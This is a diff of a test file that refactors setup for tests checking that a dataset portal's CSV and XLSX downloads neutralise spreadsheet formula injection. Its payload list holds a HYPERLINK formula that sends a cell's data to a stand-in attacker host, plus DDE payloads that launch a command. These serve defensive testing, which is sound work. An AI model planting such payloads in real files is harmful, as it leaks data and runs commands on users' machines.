@@ -1,20 +1,11 @@
 import ExcelJS from 'exceljs';
+import { testWorld } from '../support/world';
 import { parse } from 'csv-parse/sync';
 import request from 'supertest';
-import { createApp } from '../../server/app';
-import { makeWorld, publishedDataset, type World } from '../support/factories';
-import { testServices, type TestServices } from '../support/services';
+import { publishedDataset } from '../support/factories';
 
-let svc: TestServices;
-let app: ReturnType<typeof createApp>;
-let w: World;
+const t = testWorld();
 
-beforeAll(async () => {
-  svc = testServices();
-  app = createApp(svc);
-  w = await makeWorld(svc);
-});
-afterAll(() => svc.close());
 
 const PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '\t=1+1', 'Lampung Barat'];
 const CSV = ['nama,catatan,nilai', ...PAYLOADS.map((p, i) => `"${p.replace(/"/g, '""')}",biasa ${i},${i % 2 ? -i - 0.5 : i}`)].join('\n') + '\n';
@@ -27,8 +18,8 @@ const binary = (res: request.Response, cb: (err: Error | null, body: Buffer) => 
 
 describe('downloads carry no spreadsheet formulas', () => {
   it('puts an apostrophe before text that a spreadsheet would run, and leaves numbers as numbers', async () => {
-    const { ds } = await publishedDataset(svc, w, CSV);
-    const res = await request(app).get(`/dataset/${ds.slug}/download.csv`).expect(200);
+    const { ds } = await publishedDataset(t.svc, t.w, CSV);
+    const res = await request(t.app).get(`/dataset/${ds.slug}/download.csv`).expect(200);
     const rows: string[][] = parse(res.text);
     expect(rows[0]).toEqual(['nama', 'catatan', 'nilai']);
     const names = rows.slice(1).map((r) => r[0]);
@@ -39,14 +30,14 @@ describe('downloads carry no spreadsheet formulas', () => {
     expect(names[4]).toMatch(/^'\t?=1\+1$/);
     expect(rows.slice(1).map((r) => r[2])).toEqual(['0', '-1.5', '2', '-3.5', '4', '-5.5']);
     // The API keeps the data as it is: only spreadsheet files need the guard.
-    const api = await request(app).get(`/api/v1/datasets/${ds.slug}/rows`).expect(200);
+    const api = await request(t.app).get(`/api/v1/datasets/${ds.slug}/rows`).expect(200);
     expect(api.body.data[1].nama).toBe(PAYLOADS[1]);
     expect(api.body.data[1].nilai).toBe(-1.5);
   });
 
   it('writes text cells as text in XLSX, never as formulas, and numbers as numbers', async () => {
-    const { ds } = await publishedDataset(svc, w, CSV);
-    const res = await request(app).get(`/dataset/${ds.slug}/download.xlsx`).buffer(true).parse(binary).expect(200);
+    const { ds } = await publishedDataset(t.svc, t.w, CSV);
+    const res = await request(t.app).get(`/dataset/${ds.slug}/download.xlsx`).buffer(true).parse(binary).expect(200);
     const wb = new ExcelJS.Workbook();
     await wb.xlsx.load(new Uint8Array(res.body as Buffer).buffer);
     const ws = wb.worksheets[0];
